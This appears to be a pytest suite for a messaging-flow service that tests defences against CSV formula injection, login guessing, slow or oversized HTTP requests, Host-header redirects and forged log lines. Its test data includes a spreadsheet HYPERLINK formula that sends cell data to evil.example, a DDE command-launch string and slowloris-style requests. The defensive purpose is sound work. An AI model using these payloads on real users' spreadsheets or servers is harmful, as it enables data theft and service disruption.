"""Nothing a sender does can hurt other users: CSV formula injection, sign-in guessing, HTTP abuse (huge or slow
requests, Host-built redirects, MIME sniffing), an outage that must not hide metrics or leak connection details,
log lines a payload could forge or fill with personal data, and bad settings that must fail with one line."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from streamlit.testing.v1 import AppTest

from core import csvsafe, logsafe
from core.auth import LOGIN_THROTTLE, LoginThrottle, authenticate, client_key, hash_password, parse_users, user_key
from core.config import Settings
from core.db import Database
from core.engine import Engine
from core.flows import FlowRegistry, load_flows
from core.httpserver import BODY_TIMEOUT_SECONDS, HEADER_TIMEOUT_SECONDS, MAX_HEADER_BYTES
from core.signature import sign
from core.webhook import create_app
from tests import factories as f
from tests.conftest import ROOT, RUN_ID, PgServer, free_port, make_settings
from tests.test_webhook_e2e import SECRET, Server, served_database, server_env, text_body

# ------------------------------------------------------------------------------------------------ CSV
# A flow whose step names and a user id are formulas: every CSV that shows them must quote them.
INJECT_FLOW = """
name: inject
version: 1
start: "=1+1"
steps:
  - id: "=1+1"
    input: text
    key: name
    prompt: "Name?"
    next: "-2+3+cmd"
  - id: "-2+3+cmd"
    input: text
    key: city
    prompt: "City?"
    next: done
  - id: done
    terminal: true
    prompt: "Thanks"
"""
EVIL_USER = '=HYPERLINK("http://evil.example/?"&A1,"open")'
STALLED_STEP = "-2+3+cmd"


def test_csv_cells_that_start_a_formula_are_quoted_and_numbers_stay_numbers() -> None:
    for formula in ("=1+1", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "-", "+34 600"):
        assert csvsafe.safe_cell(formula) == "'" + formula
    for harmless in ("Ana", "a=b", "", "'=already quoted", "-12", "+34600123456", "-1.5e3", ".5"):
        assert csvsafe.safe_cell(harmless) == harmless
    assert csvsafe.safe_cell(-3) == -3
    frame = pd.DataFrame({"text": ["=cmd", "-12", None], "amount": [-1.5, 2.0, -3.0], "n": [-1, 0, 1]})
    written = csvsafe.csv_bytes(frame).decode()
    assert written.splitlines() == ["text,amount,n", "'=cmd,-1.5,-1", "-12,2.0,0", ",-3.0,1"]
    assert frame["text"].tolist()[0] == "=cmd"  # the caller's frame is left alone


@pytest.fixture(scope="module")
def inject_flows(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("inject-flows")
    for path in (ROOT / "flows").glob("*.yaml"):
        shutil.copyfile(path, directory / path.name)
    (directory / "inject.yaml").write_text(INJECT_FLOW)
    return directory


def seed_injection(url: str, flows: Path) -> None:
    """EVIL_USER answered the first question three hours ago and stalled in STALLED_STEP."""
    db = Database(url)
    engine = Engine(db, load_flows(flows), Settings(database_url=url, flows_dir=flows, default_flow="inject"))
    start = int(time.time()) - 3 * 3600
    engine.ingest([f.text(EVIL_USER, "hi", start), f.text(EVIL_USER, "Ana", start + 60)])
    engine.apply_all((f.PHONE, EVIL_USER))
    db.dispose()


def core_cli(*args: str, env: dict[str, str] | None = None, module: str = "core") -> subprocess.CompletedProcess[str]:
    full_env = {k: v for k, v in os.environ.items()
                if k not in ("DATABASE_URL", "FLOWS_DIR", "FLOW_ROUTES", "DB_POOL_SIZE", "SEND_MODE")}
    full_env.update(env or {})
    return subprocess.run([sys.executable, "-m", module, *args], cwd=ROOT, env=full_env, capture_output=True,
                          text=True, timeout=120)


def test_cli_csv_writers_quote_formulas(database_url: str, inject_flows: Path, tmp_path: Path) -> None:
    seed_injection(database_url, inject_flows)
    env = {"DATABASE_URL": database_url, "FLOWS_DIR": str(inject_flows)}
    out = tmp_path / "stalled.csv"
    exported = core_cli("export-stalled", f"--step={STALLED_STEP}", "--idle", "1h", "--out", str(out), env=env)
    assert exported.returncode == 0, exported.stderr
    [row] = list(csv.DictReader(out.open(newline="")))
    assert (row["user_id"], row["step"], row["flow"]) == ("'" + EVIL_USER, "'" + STALLED_STEP, "inject")
    assert float(row["idle_hours"]) > 2  # numbers stay numbers

    funnel = core_cli("funnel", "--flow", "inject", "--format", "csv", env=env)
    assert funnel.returncode == 0, funnel.stderr
    rows = list(csv.DictReader(io.StringIO(funnel.stdout)))
    assert [r["step"] for r in rows] == ["'=1+1", "'" + STALLED_STEP, "done"]
    assert [r["reached"] for r in rows] == ["1", "1", "0"]


def test_dashboard_stalled_csv_quotes_formulas(sqlite_url: str, inject_flows: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    seed_injection(sqlite_url, inject_flows)
    at = dashboard(monkeypatch, sqlite_url, inject_flows)
    at.session_state["auth_user"] = {"name": "alice", "role": "admin"}
    at.switch_page("dashboard/pages/stalled.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    exported = pd.read_csv(io.BytesIO(at.session_state["stalled_csv"]), dtype=str, keep_default_na=False)
    assert exported["user_id"].tolist() == ["'" + EVIL_USER]
    assert exported["step"].tolist() == ["'" + STALLED_STEP]
    shown = next(d.value for d in at.dataframe if "idle_hours" in d.value.columns)
    assert shown["user_id"].tolist() == ["'" + EVIL_USER]  # the table's own CSV button exports these cells


# -------------------------------------------------------------------------------------------- sign-in
PASSWORD = "alice-secret"


@pytest.fixture(autouse=True)
def _fresh_throttle() -> Iterator[None]:
    """The throttle lives in process memory, shared by every AppTest in this process: start and end empty."""
    LOGIN_THROTTLE.clear()
    yield
    LOGIN_THROTTLE.clear()


@pytest.fixture
def pbkdf2_calls(monkeypatch: pytest.MonkeyPatch) -> list[tuple[int, int, int]]:
    """Every PBKDF2 derivation as (salt length, iterations, key length): the work a sign-in costs."""
    calls: list[tuple[int, int, int]] = []
    real = hashlib.pbkdf2_hmac

    def counted(name: str, password: bytes, salt: bytes, iterations: int, dklen: int | None = None) -> bytes:
        calls.append((len(salt), iterations, dklen or 32))
        return real(name, password, salt, iterations, dklen)

    monkeypatch.setattr(hashlib, "pbkdf2_hmac", counted)
    return calls


def test_unknown_user_costs_as_much_as_a_wrong_password(pbkdf2_calls: list[tuple[int, int, int]]) -> None:
    users = parse_users(f"alice:admin:{hash_password(PASSWORD, iterations=5000)},"
                        f"bob:viewer:{hash_password('bob-secret', iterations=3000)}")
    pbkdf2_calls.clear()
    assert authenticate(users, "alice", "wrong") is None
    wrong_password = list(pbkdf2_calls)
    pbkdf2_calls.clear()
    assert authenticate(users, "mallory", "wrong") is None
    assert pbkdf2_calls == wrong_password == [(16, 5000, 32)]  # as costly as the costliest real hash


def test_throttle_grows_caps_forgets_and_is_bounded() -> None:
    now = [1000.0]
    throttle = LoginThrottle(free=3, base=1.0, cap=8.0, forget_after=900.0, max_keys=3, clock=lambda: now[0])
    keys = [user_key(" Alice "), client_key("203.0.113.9, 10.0.0.2", "10.0.0.1")]
    assert keys == ["user:alice", "client:10.0.0.2"]  # the address our proxy saw, not what the client claims
    for _ in range(3):
        assert throttle.wait(keys) == 0
        throttle.failed(keys)
    assert throttle.wait(keys) == 1.0
    waits = []
    for _ in range(4):
        throttle.failed(keys)
        waits.append(throttle.wait(keys))
    assert waits == [2.0, 4.0, 8.0, 8.0]  # doubling, capped
    assert throttle.wait([user_key("ALICE")]) == 8.0
    assert throttle.wait(["client:10.0.0.2"]) == 8.0
    throttle.succeeded(user_key("alice"))
    assert throttle.wait([user_key("alice")]) == 0
    assert throttle.wait([keys[1]]) == 8.0  # the client still waits
    now[0] += 901
    assert throttle.wait(keys) == 0  # forgotten after 15 quiet minutes
    for name in ("a", "b", "c", "d"):
        throttle.failed([user_key(name)])
    assert len(throttle) == 3  # bounded: a flood of made-up names cannot exhaust memory
    assert client_key(None, None) == "client:local"
    assert client_key("", "198.51.100.7") == "client:198.51.100.7"


def dashboard(monkeypatch: pytest.MonkeyPatch, url: str, flows: Path | None = None, **env: str) -> AppTest:
    import streamlit as st

    st.cache_data.clear()
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("DASHBOARD_USERS", f"alice:admin:{hash_password(PASSWORD, iterations=1000)}")
    monkeypatch.setenv("DEMO_MODE", "false")
    if flows is None:
        monkeypatch.delenv("FLOWS_DIR", raising=False)
    else:
        monkeypatch.setenv("FLOWS_DIR", str(flows))
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    return AppTest.from_file(str(ROOT / "streamlit_app.py"), default_timeout=60)


def sign_in(at: AppTest, name: str, password: str) -> str:
    at.text_input(key="login_user").input(name)
    at.text_input(key="login_password").input(password)
    at.button[0].click()
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return "\n".join(str(e.value) for e in at.error)


def test_failed_sign_ins_are_throttled_across_sessions(sqlite_url: str, monkeypatch: pytest.MonkeyPatch,
                                                       pbkdf2_calls: list[tuple[int, int, int]]) -> None:
    at = dashboard(monkeypatch, sqlite_url)
    at.run()
    for _ in range(3):
        assert "Wrong user name or password" in sign_in(at, "alice", "guess")
    pbkdf2_calls.clear()
    # The right password now waits too, and the refused attempt costs no hashing at all.
    assert "Too many failed sign-ins" in sign_in(at, "alice", PASSWORD)
    assert "auth_user" not in at.session_state
    assert pbkdf2_calls == []
    # Another browser session (a new tab, a new cookie) of the same process is throttled the same way.
    other = dashboard(monkeypatch, sqlite_url)
    other.run()
    assert "Too many failed sign-ins" in sign_in(other, "alice", PASSWORD)
    LOGIN_THROTTLE.clear()  # the wait is over
    sign_in(other, "alice", PASSWORD)
    assert other.session_state["auth_user"] == {"name": "alice", "role": "admin"}


# ----------------------------------------------------------------------------------------------- HTTP
def exchange(port: int, data: bytes, *, timeout: float = 30.0) -> tuple[bytes, float]:
    """Send `data`, read until the server closes the connection: its answer and the seconds that took."""
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as conn:
        conn.sendall(data)
        answer = b""
        while chunk := conn.recv(65536):
            answer += chunk
    return answer, time.monotonic() - started


def head_of(answer: bytes) -> tuple[int, dict[str, str]]:
    status_line, *lines = answer.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")
    headers = dict(line.split(": ", 1) for line in lines)
    return int(status_line.split()[1]), {k.lower(): v for k, v in headers.items()}


@pytest.fixture(scope="module")
def http_server(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory,
                flows_dir: Path) -> Iterator[tuple[Server, Database]]:
    with served_database(request, "sqlite", tmp_path_factory.mktemp("hardening-http"), flows_dir) as served:
        yield served


def test_request_heads_are_capped(http_server: tuple[Server, Database]) -> None:
    server = http_server[0]
    filler = b"x" * (MAX_HEADER_BYTES - 4096)
    answer, _ = exchange(server.port, b"GET /healthz HTTP/1.1\r\nHost: a\r\nX-Fill: " + filler
                         + b"\r\nConnection: close\r\n\r\n")
    assert head_of(answer)[0] == 200  # under the cap
    too_big = b"GET /healthz HTTP/1.1\r\nHost: a\r\nX-Fill: " + filler + b"y" * 8192
    answer, _ = exchange(server.port, too_big + b"\r\nConnection: close\r\n\r\n")
    status, headers = head_of(answer)
    assert (status, headers["x-content-type-options"]) == (431, "nosniff")
    # A head still incomplete past the cap is not buffered on: answered and closed without waiting for its end.
    answer, _ = exchange(server.port, too_big)
    status, headers = head_of(answer)
    assert (status, headers["connection"], headers["x-content-type-options"]) == (431, "close", "nosniff")
    assert server.get("/healthz").status_code == 200


def _stored(db: Database, wamid: str) -> int:
    with db.engine.connect() as conn:
        return int(conn.scalar(text("SELECT count(*) FROM inbound_events WHERE wamid = :w"), {"w": wamid}) or 0)


def test_stalled_bodies_and_heads_time_out(http_server: tuple[Server, Database]) -> None:
    server, db = http_server
    wamid = f"wamid.STALL{uuid.uuid4().hex[:8]}"
    body = text_body(wamid, "14155550177", "hello")
    stalled_body = (b"POST /webhook HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nX-Hub-Signature-256: "
                    + sign(body, SECRET).encode() + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n"
                    + body[: len(body) // 2])
    stalled_head = b"GET /healthz HTTP/1.1\r\nHost: a\r\n"
    with ThreadPoolExecutor(2) as pool:  # both wait out their timers at once
        body_answer, head_answer = pool.map(lambda data: exchange(server.port, data), [stalled_body, stalled_head])
    for (answer, seconds), limit in ((body_answer, BODY_TIMEOUT_SECONDS), (head_answer, HEADER_TIMEOUT_SECONDS)):
        status, headers = head_of(answer)
        # Answered, then closed by the server (exchange reads until then): well before the client's own 30 s.
        assert (status, headers["connection"], headers["x-content-type-options"]) == (408, "close", "nosniff")
        assert limit - 1 <= seconds < limit + 10
    assert _stored(db, wamid) == 0
    assert server.post(body).status_code == 200  # the same request sent whole is taken
    assert _stored(db, wamid) == 1


def test_no_host_redirects_no_openapi_and_nosniff_everywhere(http_server: tuple[Server, Database]) -> None:
    server = http_server[0]
    for path in ("/healthz/", "/admin/outbound/x/", "/webhook/"):
        response = server.get(path, headers={"Host": "evil.example"}, allow_redirects=False)
        assert (response.status_code, response.headers.get("location")) == (404, None), path
    for path in ("/openapi.json", "/docs", "/redoc"):
        assert server.get(path).status_code == 404, path
    responses = [server.get("/healthz"), server.get("/metrics"), server.get("/nope"),
                 server.get("/admin/outbound/x"), server.post(b"{}", secret=None), server.post(b"{", secret=SECRET),
                 server.post(text_body(f"wamid.NOSNIFF{uuid.uuid4().hex[:8]}", "14155550178", "hi"))]
    assert [r.status_code for r in responses] == [200, 200, 404, 401, 401, 400, 200]
    assert {r.headers.get("x-content-type-options") for r in responses} == {"nosniff"}


def test_outage_keeps_metrics_and_hides_connection_details(pg_server: PgServer, flows_dir: Path,
                                                           tmp_path: Path) -> None:
    name = f"waflow_outage_{RUN_ID}_{uuid.uuid4().hex[:8]}"
    url = pg_server.create(name, template=pg_server.template)
    server = Server(server_env(url, flows_dir), tmp_path / "server.log").start()
    try:
        assert server.get("/healthz").json() == {"status": "ok"}
        pg_server.drop(name)  # the database is gone: connections cut, new ones refused
        metrics = server.get("/metrics")
        assert metrics.status_code == 200
        assert "waflow_webhook_requests_total" in metrics.text
        health = server.get("/healthz")
        assert (health.status_code, health.json()) == (503, {"status": "unavailable"})
        assert server.post(text_body("wamid.OUTAGE1", "14155550179", "hi")).status_code == 503
        assert server.get("/metrics").status_code == 200
    finally:
        server.stop()
        pg_server.drop(name)
    log = server.log_path.read_text(errors="replace")
    assert "healthz: database unreachable at postgresql+psycopg://postgres@127.0.0.1" in log, log
    assert "metrics: database gauges not refreshed" in log, log


# ----------------------------------------------------------------------------------------------- logs
def test_log_helpers_escape_cut_and_mask() -> None:
    forged = "ok\n2026-01-01 00:00:00,000 INFO core.webhook forged\r\x1b[2J\u2028\\n"
    cleaned = logsafe.clean(forged)
    assert cleaned.isprintable()
    assert "\n" not in cleaned
    assert "\r" not in cleaned
    assert cleaned == "ok\\n2026-01-01 00:00:00,000 INFO core.webhook forged\\r\\x1b[2J\\u2028\\\\n"
    assert logsafe.clean("é ✓ plain") == "é ✓ plain"  # printable text is kept as it is
    long = logsafe.clean("x" * 1000)
    assert long.startswith("x" * 200)
    assert long.endswith("...[800 more]")
    assert len(long) < 220
    assert logsafe.masked("34600123456") == "***3456"
    assert logsafe.masked("12") == "***"
    assert logsafe.key(("100000000000111", "34600123456")) == "100000000000111/***3456"
    assert logsafe.masked("1234\n\n\n") == "***\\n\\n"  # escaped before it is cut: no raw control character


def unsupported_body(user: str, wamid: str, title: str) -> bytes:
    doc = json.loads(text_body(wamid, user, "unused"))
    message = doc["entry"][0]["changes"][0]["value"]["messages"][0]
    del message["text"]
    message.update(type="unsupported", unsupported={"type": "poll_update"}, errors=[{"code": 131051, "title": title}])
    return json.dumps(doc).encode()


@pytest.fixture
def client(settings: Settings, registry: FlowRegistry) -> Iterator[TestClient]:
    with TestClient(create_app(settings, flows=registry, background=False)) as test_client:
        yield test_client


def test_logs_hold_no_numbers_or_texts_and_payloads_cannot_forge_lines(
    client: TestClient, database_url: str, flows_dir: Path, registry: FlowRegistry, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    user, other, secret_text = "34600999888", "34600777666", "SECRET-BODY-8841"

    def post(body: bytes) -> None:
        response = client.post("/webhook", content=body, headers={"X-Hub-Signature-256": sign(body, SECRET)})
        assert response.status_code == 200, response.text

    post(text_body(f"wamid.LOG1{uuid.uuid4().hex[:6]}", user, secret_text))
    post(text_body(f"wamid.LOG2{uuid.uuid4().hex[:6]}", other, "Ana Lopez"))
    forged = "Message type unknown\n2026-01-01 00:00:00,000 INFO core.webhook admin signed in" + "!" * 500
    post(unsupported_body(user, f"wamid.LOG3{uuid.uuid4().hex[:6]}", forged))
    # A number change onto a user who already has a session is refused and logged (WARNING) with both numbers.
    db = Database(database_url)
    engine = Engine(db, registry, make_settings(database_url, flows_dir))
    change = f.of_kind(user, "system", f.BASE_TS + 5, phone="100000000000111", new_user_id=other)
    engine.ingest([change])
    engine.apply_all(("100000000000111", user))
    db.dispose()

    lines = [record.getMessage() for record in caplog.records if record.levelno >= logging.INFO]
    assert not [line for line in lines if user in line or other in line or secret_text in line]
    [note] = [line for line in lines if "admin signed in" in line]
    assert "\n" not in note
    assert "\\n2026-01-01" in note
    assert len(note) < 300
    assert any("***9888" in line and "***7666" in line for line in lines), lines


# ------------------------------------------------------------------------------------ bad settings / args
FREE_PORT = str(free_port())
TWENTY_DIGITS = "9" * 20
# (arguments, environment, exit status, what the one line must name)
CORE_CASES: list[tuple[tuple[str, ...], dict[str, str], int, str]] = [
    (("--log-level", "NOPE", "migrate"), {}, 2, "NOPE"),
    (("migrate",), {"DATABASE_URL": "notaurl"}, 1, "DATABASE_URL"),
    (("migrate",), {"DATABASE_URL": "postgresql://u:hunter2@db:notaport/x"}, 1, "DATABASE_URL"),
    (("migrate",), {"DB_POOL_SIZE": "abc"}, 1, "DB_POOL_SIZE"),
    (("migrate",), {"SEND_MODE": "livee"}, 1, "SEND_MODE"),
    (("migrate",), {"ARCHIVE_AFTER_HOURS": "1e30"}, 1, "ARCHIVE_AFTER_HOURS"),
    (("export-stalled", "--step", "s", "--idle", TWENTY_DIGITS + "s", "--out", "x.csv"), {}, 2, "--idle"),
    (("funnel", "--flow", "lead_qualification", "--window", TWENTY_DIGITS + "d"), {}, 2, "--window"),
    (("campaigns", "add", "--name", "n", "--flow", "lead_qualification", "--step", "ask_name", "--after",
      TWENTY_DIGITS + "h", "--text", "hi"), {}, 1, "--after"),
    (("funnel", "--flow", "lead_qualification", "--since", "0001-01-01"), {}, 2, "--since"),
    (("funnel", "--flow", "lead_qualification", "--until", "9999-12-31"), {}, 2, "--until"),
    (("funnel", "--flow", "lead_qualification"), {"FLOWS_DIR": "/nonexistent/flows"}, 1, "/nonexistent/flows"),
    (("serve", "--port", FREE_PORT), {"FLOW_ROUTES": "100000000000111=no_such_flow"}, 1, "no_such_flow"),
    (("serve", "--port", FREE_PORT), {"FLOWS_DIR": "/nonexistent/flows"}, 1, "/nonexistent/flows"),
    (("serve", "--port", "83736"), {}, 2, "83736"),
]
JOBS_CASES: list[tuple[tuple[str, ...], dict[str, str], int, str]] = [
    (("--log-level", "NOPE"), {}, 2, "NOPE"),
    (("--once", "archive"), {"DATABASE_URL": "notaurl"}, 1, "DATABASE_URL"),
    (("--once", "sweeper"), {"DB_POOL_SIZE": "abc"}, 1, "DB_POOL_SIZE"),
    (("--once", "sender"), {"SEND_MODE": "livee"}, 1, "SEND_MODE"),
    (("--once", "sweeper"), {"FLOWS_DIR": "/nonexistent/flows"}, 1, "/nonexistent/flows"),
    (("--once", "archive"), {"FLOW_ROUTES": "100000000000111=no_such_flow"}, 1, "no_such_flow"),
]


def _check_one_line(runner: Callable[[tuple[str, ...], dict[str, str]], subprocess.CompletedProcess[str]],
                    cases: list[tuple[tuple[str, ...], dict[str, str], int, str]]) -> None:
    with ThreadPoolExecutor(2) as pool:
        results = list(pool.map(lambda case: runner(case[0], case[1]), cases))
    for (args, env, status, named), result in zip(cases, results, strict=True):
        where = (args, env, result.stderr)
        assert result.returncode == status, where
        assert "Traceback" not in result.stderr, where
        assert result.stdout == "", where
        [line] = result.stderr.strip().splitlines()
        assert "error" in line, where
        assert named in line, where
        assert "hunter2" not in line, where


def test_bad_settings_and_arguments_fail_with_one_line(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/waflow.db"

    def run(args: tuple[str, ...], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
        return core_cli(*args, env={"DATABASE_URL": url, **env})

    _check_one_line(run, CORE_CASES)

    def run_jobs(args: tuple[str, ...], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
        return core_cli(*args, env={"DATABASE_URL": url, **env}, module="jobs")

    _check_one_line(run_jobs, JOBS_CASES)


def test_dashboard_explains_bad_settings_and_an_unreachable_database(sqlite_url: str,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    at = dashboard(monkeypatch, sqlite_url, DB_POOL_SIZE="abc")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    [error] = [str(e.value) for e in at.error]
    assert "settings are invalid" in error
    assert "DB_POOL_SIZE" in error
    assert at.text_input == []  # no sign-in form on a dashboard that cannot work

    unreachable = "postgresql+psycopg://postgres:hunter2@127.0.0.1:1/waflow"
    monkeypatch.delenv("DB_POOL_SIZE")
    at = dashboard(monkeypatch, unreachable)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    [error] = [str(e.value) for e in at.error]
    assert "cannot reach its database" in error
    assert not any(detail in error for detail in ("127.0.0.1", "postgres", "hunter2", "refused"))
